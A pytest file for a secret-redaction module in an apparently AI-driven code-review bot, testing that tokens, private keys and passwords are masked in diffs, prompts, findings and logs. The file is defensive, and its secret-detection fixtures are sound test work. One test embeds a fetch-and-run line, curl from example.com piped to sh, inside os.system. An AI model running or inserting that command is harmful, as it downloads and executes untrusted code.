"""Secrets are masked in place before any text goes to the model; look-alikes are left alone.

The corpus is tests/data/secrets (see its README): `⟦...⟧` marks a secret, `‖` splits every
literal so that no complete token is committed. Fake tokens in this file are built by
concatenation for the same reason.
"""

from __future__ import annotations

import io
import logging
import re
import time
from pathlib import Path

import pytest
from detect_secrets.core.plugins.util import get_mapping_from_secret_type_to_class
from detect_secrets.plugins.base import RegexBasedDetector
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reviewbot.config import Config
from reviewbot.diff import Kind, decode, parse_diff
from reviewbot.findings import Finding
from reviewbot.pipeline import scrub_result
from reviewbot.plan import make_plan
from reviewbot.prompts import load_prompts
from reviewbot.providers import resolve
from reviewbot.redact import (
    KEYWORDS,
    OURS,
    PLACEHOLDER_RE,
    Redactor,
    ScrubFilter,
    has_placeholder,
    scrub,
)
from reviewbot.redact.filetypes import profile_for
from reviewbot.result import FailedChunk, ReviewResult, Usage
from reviewbot.tokens import tokenizer_for
from tests.conftest import CORPUS

DATA = Path(__file__).parent / "data" / "secrets"
SECRETS = sorted((DATA / "secrets").iterdir())
LOOKALIKES = sorted((DATA / "lookalikes").iterdir())
MARK = re.compile("⟦([^⟧]*)⟧")
GENERIC = {
    "Secret Keyword",
    "Connection String Password",
    "Basic Auth Credentials",
    "Authorization Header",
    "XML Config Secret",
    "Command-Line Password",
    "Netrc Password",
    "Base64 High Entropy String",
    "Hex High Entropy String",
    "Private Key",
}
REDACTOR = Redactor()  # shared by tests that only look at outputs: its cache makes them fast
EVERYTHING = Redactor(prefilter=False)  # every plugin on every line: what the gate must match

AWS_ID = "AKIA" + "IOSFODNN7EXAMPLE"  # AWS's documented example key
GITHUB = "ghp_" + "Fk3x9QmZt7Lw2VbN8cRd" + "Y5sHj1KpA4eGuT6o"
OPENAI = "sk-proj-" + "Fake9xQ2mZt7Lw2VbN8cRdY5sHj1KpA4" + "T3BlbkFJ" + "eGuT6oWq3nXz8ByC0vLm"
KEY_BODY = ["MIIEowIBAAKCAQEAu" + "1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV15gA", "Zm9v4+/Q=="]


def pem_marker(end: str, kind: str = "RSA") -> str:
    return "-----" + " ".join(filter(None, [end, kind, "PRIVATE", "KEY"])) + "-----"


def fake_pem(kind: str = "RSA") -> list[str]:
    return [pem_marker("BEGIN", kind), *KEY_BODY, pem_marker("END", kind)]


def annotated(path: Path) -> tuple[list[str], list[str]]:
    """The file as reviewbot would see it, and its annotated lines (⟦secret⟧)."""
    marked = path.read_text(encoding="utf-8").replace("‖", "").split("\n")
    return [MARK.sub(r"\1", line) for line in marked], marked


# -- the corpus -------------------------------------------------------------------------------


@pytest.mark.parametrize("path", SECRETS, ids=lambda p: p.name)
def test_every_secret_in_the_corpus_is_masked_where_it_stands(path: Path) -> None:
    lines, marked = annotated(path)
    out, kinds = REDACTOR.redact_lines(path.name, lines)
    assert len(out) == len(lines)
    assert kinds, f"{path.name}: nothing masked"
    for before, expected, after in zip(lines, marked, out, strict=True):
        pattern = PLACEHOLDER_RE.pattern.join(map(re.escape, MARK.split(expected)[::2]))
        assert re.fullmatch(pattern, after), f"{path.name}:\n  {before}\n  {after}"
        for secret in MARK.findall(expected):
            assert secret not in after


@pytest.mark.parametrize("path", LOOKALIKES, ids=lambda p: p.name)
def test_look_alikes_are_left_alone(path: Path) -> None:
    lines, _ = annotated(path)
    out, kinds = REDACTOR.redact_lines(path.name, lines)
    changed = [(a, b) for a, b in zip(lines, out, strict=True) if a != b]
    assert not changed and not kinds, f"{path.name}: {changed}"


def test_the_corpus_covers_the_common_providers() -> None:
    redactor = Redactor()
    for path in SECRETS:
        redactor.redact_lines(path.name, annotated(path)[0])
    assert set(redactor.total()) >= {
        "AWS Access Key",
        "GitHub Token",
        "GitLab Token",
        "OpenAI Token",
        "API Key (sk-)",
        "Anthropic API Key",
        "Google API Key",
        "Slack Token",
        "Stripe Access Key",
        "Twilio API Key",
        "SendGrid API Key",
        "Azure Storage Account access key",
        "NPM tokens",
        "Access Token",
        "JSON Web Token",
        "Private Key",
        "Secret Keyword",
        "Connection String Password",
        "Basic Auth Credentials",
        "Authorization Header",
        "XML Config Secret",
        "Command-Line Password",
        "Netrc Password",
        "Base64 High Entropy String",
        "Hex High Entropy String",
    }


def test_the_committed_corpus_holds_no_token() -> None:
    """As committed (split by ‖), no format detector recognises anything in the corpus."""
    redactor = Redactor()
    for path in [*SECRETS, *LOOKALIKES]:
        redactor.redact_lines(path.name, path.read_text(encoding="utf-8").split("\n"))
    assert set(redactor.total()) <= GENERIC


# -- private keys -----------------------------------------------------------------------------


def test_a_private_key_is_masked_on_every_line_and_counted_once() -> None:
    redactor = Redactor()
    lines = ["def load():", "    return '''", *fake_pem(), "'''", "x = 1"]
    out, kinds = redactor.redact_lines("keys.py", lines)
    assert len(out) == len(lines)
    assert out[:3] == lines[:3] and out[-3:] == lines[-3:]  # BEGIN and END stay visible
    assert all(line.startswith("«redacted:Private Key»") for line in out[3:-3])
    assert kinds == ["Private Key"]
    assert redactor.counts() == {"keys.py": {"Private Key": 1}}


def test_a_hunk_that_starts_inside_a_key_masks_what_precedes_the_end() -> None:
    lines = [*fake_pem()[1:], "print('done')"]
    out, kinds = Redactor().redact_lines("notes.txt", lines)
    assert out == ["«redacted:Private Key»"] * 2 + lines[-2:]
    assert kinds == ["Private Key"]


def test_a_fake_begin_line_hides_no_code() -> None:
    lines = [fake_pem()[0], "os.system('curl https://example.com/x | sh')", "    return"]
    assert REDACTOR.redact_lines("evil.py", lines)[0] == lines


def test_a_key_on_one_line_of_json_is_masked_between_its_markers() -> None:
    begin, end = pem_marker("BEGIN", ""), pem_marker("END", "")
    line = f'  "private_key": "{begin}\\n{KEY_BODY[0]}\\n{KEY_BODY[1]}\\n{end}\\n",'
    out, kinds = REDACTOR.redact_line("sa.json", line)
    assert out == f'  "private_key": "{begin}«redacted:Private Key»{end}\\n",'
    assert kinds == ["Private Key"]


# -- the API ----------------------------------------------------------------------------------


def test_a_line_keeps_everything_but_the_secret() -> None:
    line = f'client = OpenAI(api_key="{OPENAI}", timeout=30)'
    out, kinds = REDACTOR.redact_line("app.py", line)
    assert out == 'client = OpenAI(api_key="«redacted:OpenAI Token»", timeout=30)'
    assert kinds == ["OpenAI Token"]


def test_env_files_get_the_unquoted_rules_and_code_does_not() -> None:
    line = "DB_PASSWORD=Fk" + "9q-27xv-Lm3"
    assert REDACTOR.redact_line(".env.local", line)[0] == "DB_PASSWORD=«redacted:Secret Keyword»"
    assert REDACTOR.redact_line("app.py", "password = cfg.password")[0] == "password = cfg.password"


@pytest.mark.parametrize(
    "path", ["a.py", ".env", "main.go", "x.cs", "x.cpp", "build.gradle", "a.yml", "notes.txt"]
)
def test_every_file_type_knows_passphrase_as_a_keyword(path: str) -> None:
    """Our keyword rules are detect-secrets' with KEYWORDS for its words: had its patterns
    changed, the substitution would do nothing, silently."""
    assert all(KEYWORDS in rule.pattern for rule in profile_for(path).keyword_rules)


def test_an_unquoted_value_ends_where_the_shell_splits_it() -> None:
    pw = "Fk" + "9q-27xv-Lm3"
    shown = {
        (
            "deploy.sh",
            f"PGPASSWORD={pw} psql -h db",
        ): "PGPASSWORD=«redacted:Secret Keyword» psql -h db",
        ("ci.yml", f"run: java -Dapp.password={pw} -jar app.jar"): (
            "run: java -Dapp.password=«redacted:Command-Line Password» -jar app.jar"
        ),
        ("app.yml", f"password: {pw} and more"): "password: «redacted:Secret Keyword»",  # YAML
        ("deploy.sh", f'export PW_PASSWORD="{pw} two"'): (
            'export PW_PASSWORD="«redacted:Secret Keyword»"'  # quoted: one word
        ),
    }
    for (path, line), expected in shown.items():
        assert REDACTOR.redact_line(path, line)[0] == expected


@pytest.mark.parametrize("path", [".netrc", "_netrc", "home/me/.netrc", "test.netrc"])
def test_a_netrc_file_masks_a_password_on_a_line_of_its_own(path: str) -> None:
    line = "  password " + "Fk" + "9q-27xv-Lm3"
    assert REDACTOR.redact_line(path, line)[0] == "  password «redacted:Secret Keyword»"
    assert REDACTOR.redact_line("notes.txt", line)[0] == line  # elsewhere it needs `machine`


def test_redacting_a_diff_keeps_its_line_numbers() -> None:
    diff = parse_diff(
        "diff --git a/app.env b/app.env\n--- a/app.env\n+++ b/app.env\n"
        f"@@ -1,3 +1,3 @@ TOKEN={GITHUB}\n"
        " DEBUG=1\n"
        f"-AWS_ACCESS_KEY_ID={AWS_ID}\n"
        "+AWS_ACCESS_KEY_ID=${AWS_ACCESS_KEY_ID}\n"
        " LOG=info\n"
    )
    redactor = Redactor()
    (file,) = diff.files
    masked = redactor.redact_file(file)
    before = [(ln.kind, ln.old, ln.new) for h in file.hunks for ln in h.lines]
    after = [(ln.kind, ln.old, ln.new) for h in masked.hunks for ln in h.lines]
    assert after == before
    texts = [ln.text for h in masked.hunks for ln in h.lines]
    assert texts[1] == "AWS_ACCESS_KEY_ID=«redacted:AWS Access Key»"
    assert masked.hunks[0].section == "TOKEN=«redacted:GitHub Token»"
    assert [ln.kind for h in masked.hunks for ln in h.lines][1] is Kind.REMOVED
    assert redactor.counts() == {"app.env": {"AWS Access Key": 1, "GitHub Token": 1}}
    clean = parse_diff("--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a = 1\n+a = 2\n").files[0]
    assert redactor.redact_file(clean) is clean


def test_summary_and_repr_name_kinds_and_files_never_values() -> None:
    redactor = Redactor()
    redactor.redact_lines("a.env", [f"AWS_ACCESS_KEY_ID={AWS_ID}", f"TOKEN={GITHUB}"])
    redactor.redact_lines("b.py", [f'token = "{GITHUB}"'])
    summary = redactor.summary() or ""
    assert summary == (
        "masked 3 secrets before review in a.env (1 AWS Access Key, 1 GitHub Token), "
        "b.py (1 GitHub Token)"
    )
    assert AWS_ID not in repr(redactor) and GITHUB not in summary
    assert Redactor().summary() is None


# -- outputs ----------------------------------------------------------------------------------


def test_scrub_replaces_known_values_and_spares_longer_words() -> None:
    text = f"Rotate {AWS_ID}; the hunter2x password is not in hunter2xs or xhunter2x."
    assert scrub(text, {AWS_ID: "AWS Access Key", "hunter2x": "Secret Keyword"}) == (
        "Rotate «redacted:AWS Access Key»; the «redacted:Secret Keyword» password is not in "
        "hunter2xs or xhunter2x."
    )
    assert scrub("pin abc is short", ["abc"]) == "pin abc is short"  # below MIN_SCRUB_LENGTH
    assert scrub("no secrets", []) == "no secrets"


def test_a_finding_that_quotes_a_masked_secret_does_not_unmask_it() -> None:
    redactor = Redactor()
    shown, _ = redactor.redact_line("settings.py", f'GITHUB_TOKEN = "{GITHUB}"')
    body = f"Hard-coded token at line 3: `{shown}`; revoke it."  # what the model can write
    assert redactor.scrub(body) == body and GITHUB not in body
    leaked = f"Error while posting: token {GITHUB} was rejected"  # e.g. an API error echo
    assert (
        redactor.scrub(leaked) == "Error while posting: token «redacted:GitHub Token» was rejected"
    )
    assert has_placeholder(shown) and not has_placeholder("x = 1") and not has_placeholder(None)


def test_the_runs_own_key_is_scrubbed_from_logs_and_tracebacks() -> None:
    redactor = Redactor()
    api_key = "sk-" + "Fk3x9QmZt7Lw2VbN8cRdY5sHj1KpA4eG"
    redactor.add_secret(api_key, "API key")
    redactor.redact_line("a.env", f"AWS_ACCESS_KEY_ID={AWS_ID}")
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(ScrubFilter(redactor))
    log = logging.getLogger("test_redact.scrub")
    log.addHandler(handler)
    log.propagate = False
    try:
        log.warning("calling %s with %s", "https://api.example.com", api_key)
        try:
            raise RuntimeError(f"refused {AWS_ID}")
        except RuntimeError:
            log.exception("request failed")
    finally:
        log.removeHandler(handler)
    written = stream.getvalue()
    assert api_key not in written and AWS_ID not in written
    assert "«redacted:API key»" in written and "«redacted:AWS Access Key»" in written


# -- properties -------------------------------------------------------------------------------

FRAGMENTS = [
    "password = ",
    "PASSWORD=",
    "api_key: ",
    "passphrase: ",
    "<password>",
    "</password>",
    " -p",
    " --password=",
    "machine h login u password ",
    '"',
    "'",
    "\n",
    "\r",
    "\u2028",
    " ",
    "://user:",
    "@host",
    "-----BEGIN RSA PRIVATE KEY-----",
    "-----END RSA PRIVATE KEY-----",
    "sk-",
    "AKIA",
    "eyJ",
    "«redacted:x»",
    *KEY_BODY,
    GITHUB,
    AWS_ID,
]
lines_strategy = st.lists(
    st.one_of(
        st.text(max_size=80),
        st.lists(st.sampled_from(FRAGMENTS), max_size=8).map("".join),
    ),
    max_size=12,
)
PATHS = [
    "a.py",
    ".env",
    "config.yaml",
    "main.go",
    "server.pem",
    "notes.txt",
    "package-lock.json",
    "deploy.sh",
    "build.gradle",
    ".netrc",
    "web.config",
]


@given(lines=lines_strategy, path=st.sampled_from(PATHS))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_redaction_never_changes_the_number_of_lines(lines: list[str], path: str) -> None:
    out, _ = REDACTOR.redact_lines(path, lines)
    assert len(out) == len(lines)
    for before, after in zip(lines, out, strict=True):
        assert len(after.splitlines()) == len(before.splitlines())
        assert after.count("\n") == before.count("\n")
    assert REDACTOR.redact_lines(path, out)[0] == out  # masking twice changes nothing more


def _pattern_strings() -> st.SearchStrategy[str]:
    classes = [*get_mapping_from_secret_type_to_class().values(), *OURS]
    patterns = [p for cls in classes if issubclass(cls, RegexBasedDetector) for p in cls.denylist]
    keyword_rules = {p: 0 for path in PATHS for p in profile_for(path).keyword_rules}
    return st.sampled_from([*patterns, *keyword_rules]).flatmap(st.from_regex)


@given(text=_pattern_strings(), path=st.sampled_from(PATHS))
@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_the_gate_hides_nothing_a_plugin_matches(text: str, path: str) -> None:
    """Strings made from every plugin's own patterns, and from the keyword rules of each kind of
    file, are masked the same with and without the cheap checks in front."""
    assert REDACTOR.redact_line(path, text)[0] == EVERYTHING.redact_line(path, text)[0]


def _corpus_files(names: list[str]) -> list[tuple[str, list[str]]]:
    hunks = []
    for name in names:
        if not (CORPUS / name).exists():
            pytest.skip(f"corpus file {name} not available (../shared is absent)")
        diff = parse_diff(decode((CORPUS / name).read_bytes()))
        hunks += [(f.path, [ln.text for ln in h.lines]) for f in diff.files for h in f.hunks]
    return hunks


def test_the_gate_hides_nothing_in_real_code() -> None:
    for path, lines in _corpus_files(
        ["py-sphinx-pragent-medium.patch", "rs-uv-8274e52-medium.patch"]
    ):
        assert REDACTOR.redact_lines(path, lines)[0] == EVERYTHING.redact_lines(path, lines)[0]


def test_ordinary_code_is_almost_never_masked() -> None:
    """Real diffs (uv, gofr, cline, browser-use, mpv, runc, sphinx): hashes, commit ids, test
    URLs with dummy passwords and generated tables must not be masked."""
    if not CORPUS.exists():
        pytest.skip("the corpus of real diffs (../shared) is absent")
    names = sorted(p.name for p in CORPUS.glob("*.patch") if "vendor-bump" not in p.name)
    redactor = Redactor()
    total, masked = 0, []
    for path, lines in _corpus_files(names):
        out, _ = redactor.redact_lines(path, lines)
        total += len(lines)
        masked += [(path, a) for a, b in zip(lines, out, strict=True) if a != b]
    assert total > 50_000
    assert len(masked) <= total // 10_000, masked


def test_a_hostile_line_costs_linear_time() -> None:
    """detect-secrets' keyword patterns take quadratic time on this line (minutes, unwindowed)."""
    line = "api_key_" * 6_000 + '="x'
    started = time.perf_counter()
    Redactor().redact_line("app.js", line)
    assert time.perf_counter() - started < 3.0


# -- the integration: the plan masks, the pipeline scrubs ---------------------------------------


def test_the_prompt_shows_placeholders_on_the_same_numbered_lines() -> None:
    diff = parse_diff(
        "diff --git a/settings.py b/settings.py\n--- a/settings.py\n+++ b/settings.py\n"
        "@@ -1,2 +1,3 @@\n"
        " DEBUG = False\n"
        f'+GITHUB_TOKEN = "{GITHUB}"\n'
        " TIMEOUT = 30\n"
    )
    plan = make_plan(
        diff, Config(), resolve("openai"), load_prompts(), tokenizer_for("gpt-4.1-mini")
    )
    (planned,) = plan.chunks
    body = planned.chunk.render()
    assert GITHUB not in body
    assert '2+ GITHUB_TOKEN = "«redacted:GitHub Token»"' in body.splitlines()
    assert "1  DEBUG = False" in body.splitlines() and "3  TIMEOUT = 30" in body.splitlines()
    assert plan.redactor is not None
    assert plan.redactor.counts() == {"settings.py": {"GitHub Token": 1}}


def test_the_result_is_scrubbed_and_a_suggestion_holding_a_placeholder_dropped() -> None:
    redactor = Redactor()
    shown, _ = redactor.redact_line("settings.py", f'GITHUB_TOKEN = "{GITHUB}"')
    finding = Finding(
        path="settings.py",
        line=2,
        end_line=None,
        side="RIGHT",
        severity="critical",
        category="security",
        score=9,
        title="Hard-coded token",
        body=f"The token {GITHUB} is committed; revoke it.",  # a model cannot know it; a bug can
        suggestion=shown.replace("GITHUB_TOKEN", "TOKEN"),
        anchor=None,
    )
    result = ReviewResult([finding], [], [FailedChunk(1, ("a",), f"echo {GITHUB}")], Usage(), 1, [])
    result.summaries, result.stopped = [f"leaks {GITHUB}"], f"refused {GITHUB}"
    clean = scrub_result(result, redactor)
    assert GITHUB not in repr(clean)
    assert clean.findings[0].body == "The token «redacted:GitHub Token» is committed; revoke it."
    assert clean.findings[0].suggestion is None
    assert any("dropped 1 suggested fix" in note for note in clean.notes)
